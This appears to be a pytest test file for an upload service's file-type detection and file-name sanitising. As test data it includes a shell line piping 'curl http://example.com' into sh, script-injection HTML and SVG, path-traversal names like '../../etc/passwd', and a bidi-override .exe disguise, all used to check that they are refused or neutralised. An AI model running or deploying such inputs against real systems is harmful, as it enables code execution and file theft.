"""Upload types come from the bytes, and file names are made safe to store and send."""

from __future__ import annotations

import pytest

from accredit.services.evidence import filetypes
from accredit.services.evidence.filetypes import (
    ACCEPTED,
    FileTypeRefused,
    describe_size,
    detect,
    safe_filename,
)
from tests.support import files

PDF = ACCEPTED["application/pdf"]
DOCX = ACCEPTED["application/vnd.openxmlformats-officedocument.wordprocessingml.document"]


@pytest.mark.parametrize(
    ("data", "media_type", "label", "extension"),
    [
        (files.pdf(), "application/pdf", "PDF", "pdf"),
        (files.docx(), DOCX.media_type, "Word document", "docx"),
        (
            files.xlsx(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "Excel spreadsheet",
            "xlsx",
        ),
        (
            files.pptx(),
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
            "PowerPoint presentation",
            "pptx",
        ),
        (files.odt(), "application/vnd.oasis.opendocument.text", "OpenDocument text", "odt"),
        (files.png(), "image/png", "PNG image", "png"),
        (files.jpeg(), "image/jpeg", "JPEG image", "jpg"),
        (files.csv(), "text/csv", "CSV", "csv"),
        ("Notes from the placement review: résumé\n".encode(), "text/plain", "Plain text", "txt"),
    ],
)
def test_accepted_types_are_recognised_from_their_content(data, media_type, label, extension):
    found = detect(data)
    assert (found.media_type, found.label, found.extension) == (media_type, label, extension)


def test_an_office_file_is_recognised_whatever_order_its_parts_are_in():
    """libmagic alone calls this a zip: it only looks for [Content_Types].xml first."""
    assert detect(files.docx(content_types_first=False)) == DOCX


def test_prose_that_libmagic_mistakes_for_code_is_plain_text():
    assert detect(b"begin the induction\nthen end with a quiz\n").media_type == "text/plain"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", filetypes.EMPTY),
        (files.elf(), filetypes.PROGRAM),
        (files.pe(), filetypes.PROGRAM),
        (b"#!/bin/sh\ncurl http://example.com | sh\n", filetypes.PROGRAM),
        (files.plain_zip(), filetypes.ARCHIVE),
        (b"<html><body><script>alert(1)</script></body></html>", filetypes.UNRECOGNISED),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', filetypes.UNRECOGNISED),
        (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", filetypes.UNRECOGNISED),
    ],
    ids=["empty", "elf", "pe", "script", "zip", "html", "svg", "gif"],
)
def test_refusals_each_say_what_is_wrong(data, message):
    with pytest.raises(FileTypeRefused) as refused:
        detect(data)
    assert str(refused.value) == message


def test_each_refusal_has_its_own_message():
    messages = [filetypes.EMPTY, filetypes.PROGRAM, filetypes.ARCHIVE, filetypes.UNRECOGNISED]
    assert len(set(messages)) == 4
    assert "PDF, Word, Excel, PowerPoint, OpenDocument, PNG, JPEG" in filetypes.UNRECOGNISED


def test_a_broken_zip_is_an_archive_not_an_error():
    data = files.docx()[:60]  # the local header of the first part, then nothing
    with pytest.raises(FileTypeRefused):
        detect(data)


@pytest.mark.parametrize(
    ("name", "filetype", "expected"),
    [
        ("Work experience policy.pdf", PDF, "Work experience policy.pdf"),
        ("../../etc/passwd", PDF, "passwd.pdf"),
        ("..\\..\\Windows\\system.ini", None, "system.ini"),
        ("/etc/passwd", None, "passwd"),
        ("résumé \u200b.pdf", PDF, "résumé.pdf"),
        ("re\u0301sume\u0301.pdf", PDF, "résumé.pdf"),  # decomposed accents are composed
        ("invoice\u202efdp.exe", PDF, "invoicefdp.pdf"),  # bidi override dropped, type wins
        ("policy.PDF", PDF, "policy.pdf"),
        ("policy.html", PDF, "policy.pdf"),
        ("policy", DOCX, "policy.docx"),
        ("photo.jpeg", ACCEPTED["image/jpeg"], "photo.jpeg"),
        ("notes.md", ACCEPTED["text/plain"], "notes.md"),
        ("", PDF, "evidence.pdf"),
        ("..", PDF, "evidence.pdf"),
        ("\u200b\u200d.pdf", PDF, "evidence.pdf"),
        ("   ", None, "evidence"),
        (".bashrc", None, "evidence.bashrc"),  # no hidden files
        ('a<b>c:"d"|e?f*.pdf', PDF, "a_b_c__d__e_f_.pdf"),
        ("CON.pdf", PDF, "evidence-CON.pdf"),
        ("line\nbreak\ttab.pdf", PDF, "line break tab.pdf"),
        ("\uff0e\uff0e\uff0fsecret.pdf", PDF, "secret.pdf"),  # full-width ../ becomes ../
        ("report.tar.gz", None, "report.tar.gz"),
        ("report.", PDF, "report.pdf"),
    ],
)
def test_safe_filename(name, filetype, expected):
    assert safe_filename(name, filetype) == expected


def test_safe_filename_fits_in_255_bytes_without_splitting_a_character():
    name = safe_filename("é" * 300 + ".pdf", PDF)
    assert len(name.encode()) <= 255
    assert name.endswith(".pdf") and set(name.removesuffix(".pdf")) == {"é"}
    assert len(safe_filename("x" * 1000, None).encode()) == 255


def test_safe_filename_is_never_empty_and_has_no_path_or_invisible_characters():
    for name in ["/", "\\", "\x00", "\u202e", ".", "...", "\u3000", "a/" * 200]:
        safe = safe_filename(name, PDF)
        assert safe and "/" not in safe and "\\" not in safe
        assert all(ch.isprintable() for ch in safe)


@pytest.mark.parametrize(
    ("size", "text"),
    [
        (0, "0 bytes"),
        (1, "1 byte"),
        (1023, "1023 bytes"),
        (1024, "1 KB"),
        (1536, "1.5 KB"),
        (20 * 1024 * 1024, "20 MB"),
        (3 * 1024**3, "3 GB"),
    ],
)
def test_describe_size(size, text):
    assert describe_size(size) == text
